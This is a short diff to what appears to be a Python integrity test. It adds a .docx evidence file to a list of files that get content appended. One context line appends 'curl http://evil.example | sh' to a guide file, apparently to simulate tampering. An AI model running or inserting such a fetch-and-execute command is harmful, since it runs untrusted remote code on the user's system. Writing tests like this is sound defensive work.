@@ -106,6 +106,7 @@ def _appended(pack: Path, path: str, line: str = "more\n") -> None:
         ("物料清单.spdx.json", " "),
         ("证据表.pdf", "% more\n"),
         ("证据表.xlsx", "more"),
+        ("证据表.docx", "more"),
         (layout.GUIDE, "    $ curl http://evil.example | sh\n"),
         (layout.BAG_INFO, "Contact-Name: 别人\n"),
         (layout.CRATE, " "),
